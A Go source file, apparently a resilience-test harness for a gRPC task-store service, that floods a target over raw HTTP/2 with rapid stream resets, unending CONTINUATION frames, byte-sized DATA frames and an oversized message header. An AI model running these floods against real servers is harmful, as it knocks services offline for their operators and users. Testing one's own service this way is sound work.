package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rawConn is an HTTP/2 connection on which anything can be sent.
type rawConn struct {
	net.Conn
	*http2.Framer
	stream uint32
}

// flood makes connections and floods them, again and again, until ctx ends. Servers may cut such connections at any time.
func flood(frames func(*rawConn) error) attack {
	return func(ctx context.Context, target string, _ int, begun func()) error {
		for ctx.Err() == nil {
			conn, err := net.Dial("tcp", target)
			if err != nil {
				return err
			}
			begun()
			stop := context.AfterFunc(ctx, func() { conn.Close() })
			raw := &rawConn{Conn: conn, Framer: http2.NewFramer(conn, conn), stream: 1}
			go io.Copy(io.Discard, conn)
			_, err = io.WriteString(conn, http2.ClientPreface)
			if err == nil {
				err = raw.WriteSettings()
			}
			for n := 0; err == nil && n < 10_000; n++ {
				err = frames(raw)
				raw.stream += 2
			}
			stop()
			conn.Close()
			select {
			case <-ctx.Done():
			case <-time.After(10 * time.Millisecond):
			}
		}
		return nil
	}
}

// headers are those of a Get, with so many more.
func headers(more int) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", "/a2ataskstore.v1.TaskStoreService/Get"}, {":authority", "store"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	for i := range more {
		_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: "some value of no use", Sensitive: true})
	}
	return b.Bytes()
}

// resetStreams opens a stream and takes it back.
func resetStreams(c *rawConn) error {
	if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: headers(0), EndHeaders: true}); err != nil {
		return err
	}
	return c.WriteRSTStream(c.stream, http2.ErrCodeCancel)
}

// continueHeaders sends headers that do not end.
func continueHeaders(c *rawConn) error {
	if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: headers(100)}); err != nil {
		return err
	}
	for range 1000 {
		if err := c.WriteContinuation(c.stream, false, headers(100)); err != nil {
			return err
		}
	}
	return nil
}

// tinyFrames sends a message byte by byte, and does not end it.
func tinyFrames(c *rawConn) error {
	if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: headers(0), EndHeaders: true}); err != nil {
		return err
	}
	for _, b := range []byte{0, 0, 0, 1, 0, 'x', 'x', 'x'} {
		if err := c.WriteData(c.stream, false, []byte{b}); err != nil {
			return err
		}
		if err := c.WriteData(c.stream, false, nil); err != nil {
			return err
		}
	}
	return nil
}

// hugeFrame says that a message is larger than any may be.
func hugeFrame(c *rawConn) error {
	if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: headers(0), EndHeaders: true}); err != nil {
		return err
	}
	return c.WriteData(c.stream, false, append([]byte{0, 0xff, 0xff, 0xff, 0xff}, make([]byte, 8<<10)...))
}
